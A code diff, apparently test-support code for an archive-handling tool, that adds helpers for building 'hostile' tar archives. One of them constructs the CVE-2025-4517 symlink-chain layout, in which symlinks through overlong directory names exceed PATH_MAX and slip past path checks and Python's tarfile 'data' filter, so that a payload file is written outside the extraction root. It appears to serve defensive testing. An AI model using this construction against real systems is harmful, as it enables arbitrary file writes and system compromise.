@@ -316,3 +316,52 @@ def paper_mirror(seed: int = 0, weights: bool = True) -> Mirror:
 def served(mirror: Mirror, url: str) -> Any:
     """The replica of `url` (raw bytes)."""
     return mirror.files["/" + url_key(url)]
+
+
+# ----------------------------------------------------------------------------- hostile archives
+
+
+def tar_of(members: list[tuple[tarfile.TarInfo, bytes | None]], gz: bool = True) -> bytes:
+    """A tar (gzipped by default) of raw headers: any member type, data for regular files."""
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w:gz" if gz else "w") as tar:
+        for info, data in members:
+            if data is not None:
+                info.size = len(data)
+            tar.addfile(info, io.BytesIO(data) if data is not None else None)
+    return buf.getvalue()
+
+
+def tar_member(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
+    """A header of type `kind` (tarfile.SYMTYPE, LNKTYPE, FIFOTYPE, CHRTYPE...), `link` target."""
+    info = tarfile.TarInfo(name)
+    info.type, info.linkname = kind, link
+    return info
+
+
+def symlink_chain_members(
+    escape_to: int, payload_name: str, payload: bytes, depth: int = 16
+) -> list[tuple[tarfile.TarInfo, bytes | None]]:
+    """The CVE-2025-4517 shape: a file written `escape_to` folders above the extraction root.
+
+    `depth` folders of 247-character names, each reached by a one-letter symlink, so that the
+    chain ``a/b/.../p`` resolves to more than PATH_MAX characters; a long-named link at its end
+    points back up ``depth`` levels, i.e. at the extraction root itself, while lexically it sits
+    ``depth + 1`` levels deep. ``escape`` -> ``<chain>/<long link>/..`` x `escape_to` therefore
+    looks inside the root to lexical checks (and to Python 3.11.7's `data` filter, whose
+    realpath gives up past PATH_MAX) but is `escape_to` levels above it on disk; the payload
+    member ``escape/<payload_name>`` is written there.
+    """
+    comp = "d" * 247
+    steps = [chr(ord("a") + i) for i in range(depth)]
+    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
+    path = ""
+    for step in steps:
+        members.append((tar_member(path + comp, tarfile.DIRTYPE), None))
+        members.append((tar_member(path + step, tarfile.SYMTYPE, comp), None))
+        path += comp + "/"
+    long_link = "/".join(steps) + "/" + "l" * 254
+    members.append((tar_member(long_link, tarfile.SYMTYPE, "../" * depth), None))
+    members.append((tar_member("escape", tarfile.SYMTYPE, long_link + "/.." * escape_to), None))
+    members.append((tar_member(f"escape/{payload_name}"), payload))
+    return members
